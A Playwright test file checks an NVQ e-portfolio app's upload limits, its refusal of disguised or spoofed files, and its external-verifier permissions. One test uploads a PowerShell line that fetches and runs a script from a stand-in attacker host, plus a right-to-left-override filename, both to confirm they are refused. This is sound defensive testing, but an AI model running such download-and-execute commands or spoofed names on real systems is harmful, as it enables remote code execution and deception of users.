// The attacks of the security review, tried again against the production build: upload space,
// disguised files, frozen evidence, and who controls an external verifier.
import { expect, test, type Page } from "@playwright/test";
import { expectAccessible } from "./support/axe";
import { newEvidence } from "./support/evidence";
import { sql } from "./support/db";
import { signIn, storageStateOf } from "./support/personas";

const GB = 1024 ** 3;

const meta = (evidenceId: string, name: string) =>
  `filename ${Buffer.from(name).toString("base64")},evidenceId ${Buffer.from(evidenceId).toString("base64")}`;

/** A tus creation request, as tus-js-client sends it. */
const startUpload = (page: Page, evidenceId: string, name: string, size: number, body?: Buffer) =>
  page.request.post("/api/uploads", {
    headers: {
      "Tus-Resumable": "1.0.0",
      "Upload-Length": String(size),
      "Upload-Metadata": meta(evidenceId, name),
      ...(body ? { "Content-Type": "application/offset+octet-stream" } : {}),
    },
    data: body,
  });

test.describe("uploads", () => {
  // Aisha, not Jordan: these tests hold many reservations, which Jordan's upload tests must not meet.
  test.beforeEach(async ({ page }) => {
    await signIn(page, "aisha.begum@northgate.example");
    await expect(page).toHaveURL("/candidate");
  });

  test("16 parallel 5 GB starts cannot pass the 50 GB limit, and ending them gives the space back", async ({
    page,
  }) => {
    const evidenceId = await newEvidence(page, "Storage limit probe");
    const starts = await Promise.all(
      Array.from({ length: 16 }, (_, i) => startUpload(page, evidenceId, `film-${i}.mp4`, 5 * GB)),
    );
    const accepted = starts.filter((r) => r.status() === 201);
    const refused = starts.filter((r) => r.status() === 400);
    // Ten 5 GB files fill the 50 GB limit exactly; the other six are refused with the reason.
    expect(accepted).toHaveLength(10);
    expect(refused).toHaveLength(6);
    for (const r of refused)
      expect(await r.text()).toContain("past its 50 GB limit (50 GB used, counting unfinished uploads)");
    const [reserved] = await sql<{ total: string }>(
      `SELECT coalesce(sum(size), 0)::text AS total FROM "EvidenceUpload" WHERE "evidenceId" = $1 AND state = 'uploading'`,
      [evidenceId],
    );
    expect(Number(reserved!.total)).toBeLessThanOrEqual(50 * GB);

    // Ending each upload (tus DELETE) releases its reservation at once.
    for (const r of accepted) {
      const ended = await page.request.delete(r.headers()["location"]!.replace(/^.*\/api\/uploads/, "/api/uploads"), {
        headers: { "Tus-Resumable": "1.0.0" },
      });
      expect(ended.status()).toBe(204);
    }
    const again = await startUpload(page, evidenceId, "film-again.mp4", 5 * GB);
    expect(again.status()).toBe(201);
    await page.request.delete(again.headers()["location"]!.replace(/^.*\/api\/uploads/, "/api/uploads"), {
      headers: { "Tus-Resumable": "1.0.0" },
    });
  });

  test("scripts in disguise and spoofed names are refused before any byte is stored", async ({ page }) => {
    const evidenceId = await newEvidence(page, "Disguised files probe");
    const script = Buffer.from('powershell -nop -c "iwr http://evil.example/x.ps1 | iex"\r\n');
    const cmd = await startUpload(page, evidenceId, "fix.cmd", script.length, script);
    expect(cmd.status()).toBe(400);
    expect(await cmd.text()).toContain(".cmd");
    const bidi = await startUpload(page, evidenceId, "invoice\u202Efdp.exe", 100);
    expect(bidi.status()).toBe(400);
    expect(await bidi.text()).toMatch(/direction/i);
    // Text content under a text name is fine; the same content called .txt but holding a script is
    // plain text and is only ever served as .txt.
    const notes = Buffer.from("Called the customer back about their bill.\n");
    const ok = await startUpload(page, evidenceId, "notes.txt", notes.length, notes);
    expect(ok.status()).toBe(201);
    expect(
      await sql(`SELECT id FROM "EvidenceFile" WHERE "evidenceId" = $1 AND "displayName" = 'fix.cmd'`, [evidenceId]),
    ).toEqual([]);
  });

  test("the upload the route checks is the upload that is written: a query string cannot name another", async ({
    page,
  }) => {
    const evidenceId = await newEvidence(page, "Upload id probe");
    const path = (r: { headers(): Record<string, string> }) =>
      r.headers()["location"]!.replace(/^.*\/api\/uploads/, "/api/uploads");
    const mine = path(await startUpload(page, evidenceId, "mine.txt", 10));
    const other = path(await startUpload(page, evidenceId, "other.txt", 10));
    const tus = { "Tus-Resumable": "1.0.0" };
    await page.request.patch(`${mine}?x=${other}`, {
      headers: { ...tus, "Upload-Offset": "0", "Content-Type": "application/offset+octet-stream" },
      data: Buffer.from("12345"),
    });
    const offset = async (url: string) => (await page.request.head(url, { headers: tus })).headers()["upload-offset"];
    expect(await offset(other)).toBe("0");
    expect(await offset(mine)).toBe("5");
    for (const url of [mine, other]) await page.request.delete(url, { headers: tus });
  });

  test("evidence cannot be submitted while an upload to it is unfinished; cancelling it frees the way", async ({
    page,
  }) => {
    const evidenceId = await newEvidence(page, "Unfinished upload probe");
    const notes = Buffer.from("Shift handover notes.\n");
    expect((await startUpload(page, evidenceId, "handover.txt", notes.length, notes)).status()).toBe(201);
    expect((await startUpload(page, evidenceId, "long-video.mp4", 2 * GB)).status()).toBe(201); // then the browser closed
    await page.reload();
    await expect(page.getByText("long-video.mp4 (2 GB)")).toBeVisible();
    const submit = page.getByRole("form", { name: "Submit for assessment" });
    await submit.getByRole("button", { name: "Submit for assessment" }).click();
    await expect(submit.getByRole("status")).toContainText("still uploading");
    await expectAccessible(page);
    await page.getByRole("button", { name: "Cancel the upload of long-video.mp4" }).click();
    await expect(page.getByText("long-video.mp4 (2 GB)")).toHaveCount(0); // its row goes with it
    await page.reload();
    const again = page.getByRole("form", { name: "Submit for assessment" });
    await again.getByLabel(/^I declare that this evidence is my own work/).check();
    await again.getByRole("button", { name: "Submit for assessment" }).click();
    await expect(page.getByText("Submitted for assessment").first()).toBeVisible();
    const [row] = await sql<{ status: string }>(`SELECT status::text FROM "Evidence" WHERE id = $1`, [evidenceId]);
    expect(row!.status).toBe("SUBMITTED");
  });
});

test.describe("external verifiers belong to the awarding body", () => {
  test("the awarding body adds an EV and appoints them; the EV sees exactly that centre; ending it closes it", async ({
    page,
    browser,
  }) => {
    test.setTimeout(120_000);
    const email = `rowan.ellis.${Date.now()}@awarding.example`;
    await signIn(page, "admin@awarding.example");
    await expect(page).toHaveURL("/awarding");
    await page.getByRole("link", { name: "Add an external verifier" }).first().click();
    await expectAccessible(page);
    await expect(page.getByRole("checkbox")).toHaveCount(0); // an EV account has no roles to choose
    await page.getByLabel("Full name").fill("Rowan Ellis");
    await page.getByLabel("Email address").fill(email);
    await page.getByLabel("Initial password").fill("rowan-password-2026");
    await page.getByRole("button", { name: "Add external verifier" }).click();
    await expect(page.getByRole("heading", { level: 1, name: "Rowan Ellis" })).toBeVisible();
    await expect(page.getByText("Not appointed to any centre yet.")).toBeVisible();
    await page.getByLabel("Centre", { exact: true }).selectOption({ label: "Riverside Training Ltd (C20002)" });
    await page.getByRole("button", { name: "Appoint" }).click();
    await expect(page.getByText(/Riverside Training Ltd \(C20002\), appointed/)).toBeVisible();
    await expectAccessible(page);

    const evContext = await browser.newContext({ storageState: { cookies: [], origins: [] } });
    const ev = await evContext.newPage();
    await signIn(ev, email, "rowan-password-2026");
    await expect(ev).toHaveURL("/ev");
    await expect(ev.getByRole("main").getByText("Riverside Training Ltd")).toBeVisible();
    await expect(ev.getByRole("main").getByText("Northgate College")).toHaveCount(0);

    await page.getByRole("button", { name: "End appointment to Riverside Training Ltd" }).click();
    await expect(page.getByText("Not appointed to any centre yet.")).toBeVisible();
    await ev.reload();
    await expect(ev.getByRole("main").getByText("Riverside Training Ltd")).toHaveCount(0);

    // Riverside's own administrator cannot find, change or deactivate the account.
    const [row] = await sql<{ id: string }>(`SELECT id FROM "User" WHERE email = $1`, [email]);
    const riverside = await browser.newContext({ storageState: storageStateOf("r-admin") });
    const response = await riverside.request.get(`/admin/users/${row!.id}`);
    expect(response.status()).toBe(404);
    await riverside.close();
    await evContext.close();
  });

  test("a centre administrator cannot grant the external verifier role", async ({ browser }) => {
    const context = await browser.newContext({ storageState: storageStateOf("admin") });
    const page = await context.newPage();
    await page.goto("/admin/users/new");
    await expect(page.getByRole("checkbox", { name: "External verifier" })).toHaveCount(0);
    await expect(page.getByRole("checkbox", { name: "Awarding-body administrator" })).toHaveCount(0);
    await expect(page.getByText("External verifiers are appointed by the awarding body")).toBeVisible();
    expect((await page.request.get("/awarding")).status()).toBe(403);
    expect((await page.request.get("/awarding/catalogue/import")).status()).toBe(403);
    await context.close();
  });
});

test("the site's static files: icon, robots.txt that keeps portfolios out of search engines, manifest", async ({
  request,
}) => {
  const robots = await request.get("/robots.txt");
  expect(robots.status()).toBe(200);
  expect(await robots.text()).toMatch(/User-agent: \*\s+Disallow: \//);
  const manifest = await request.get("/manifest.webmanifest");
  expect(manifest.status()).toBe(200);
  expect(await manifest.json()).toMatchObject({ name: "NVQ e-portfolio", icons: expect.any(Array) });
  expect((await request.get("/icon.svg")).status()).toBe(200);
});
